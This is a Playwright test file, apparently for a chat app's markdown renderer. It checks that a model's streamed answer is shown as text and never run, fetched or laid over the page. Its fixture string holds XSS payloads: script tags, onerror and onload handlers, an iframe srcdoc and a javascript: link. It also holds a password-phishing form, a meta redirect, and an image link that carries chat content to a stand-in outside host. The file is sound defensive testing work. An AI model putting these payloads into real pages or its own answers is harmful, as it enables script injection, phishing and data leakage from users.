import { expect } from "@playwright/test";
import { type FakeProvider, startFakeProvider, stream } from "#lib/models/fake-provider";
import { test as base } from "./browser-fixtures.ts";
import type { Tab } from "./devices.ts";

const HOSTILE = `
# A heading <script>window.ran = "script"</script>

<img src="/nowhere" onerror="window.ran = 'image'"> <svg onload="window.ran = 'svg'"></svg>

<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>

<form action="https://elsewhere.example/"><input name="password"></form>

<style>body { display: none }</style>

<div id="main" style="position: fixed; inset: 0; z-index: 99">over everything</div>

<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">

[a script](javascript:window.ran='link') and [a page](https://elsewhere.example/page)

![a picture](https://elsewhere.example/picture.png?what=was-said)

The end.`;

const test = base.extend<object, { provider: FakeProvider }>({
  provider: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads from it that nothing is needed
    async ({}, use) => {
      const provider = await startFakeProvider();
      await use(provider);
      await provider.stop();
    },
    { scope: "worker" },
  ],
  serverEnv: [
    ({ provider }, use) =>
      use({ OPENAI_COMPATIBLE_BASE_URL: provider.url, OPENAI_COMPATIBLE_MODELS: "hostile" }),
    { scope: "worker" },
  ],
});

test("what a model says is read, and never run, fetched or laid over the page", async ({
  tab,
  server,
  provider,
}) => {
  const pieces = HOSTILE.match(/.{1,7}/gs) ?? [];
  provider.answer(stream([...pieces.map((content) => chunk({ content })), chunk({}, "stop")]));
  const asked: string[] = [];
  tab.page.on("request", (request) => asked.push(request.url()));
  await tab.open();
  await tab.send("hello");
  await tab.reads("The end");
  await expectHarmless(tab);
  await tab.reload();
  await expectHarmless(tab);
  expect(asked.filter((address) => !address.startsWith(server.url))).toEqual([]);
  expect(asked).not.toContain(`${server.url}/nowhere`);
});

const chunk = (delta: object, finish_reason?: string) => ({ choices: [{ index: 0, delta, finish_reason }] });

async function expectHarmless({ page, answers, composer, stop }: Tab): Promise<void> {
  await expect(stop).toBeHidden();
  await expect(answers.getByRole("heading", { name: "A heading" })).toBeVisible();
  await expect(
    answers.locator(
      "script, style, svg:not(.lucide), iframe, form, input:enabled, meta, img, [style], .answer [id]",
    ),
  ).toHaveCount(0);
  const links = answers.getByRole("link");
  await expect(links).toHaveText(["a page", "a picture — open image from elsewhere.example"]);
  for (const link of await links.all()) {
    await expect(link).toHaveAttribute("title", "elsewhere.example");
    await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(link).toHaveAttribute("target", "_blank");
    await expect(link.locator("svg.lucide")).toBeVisible();
  }
  // Nothing lies over what is ours.
  await composer.click();
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
}
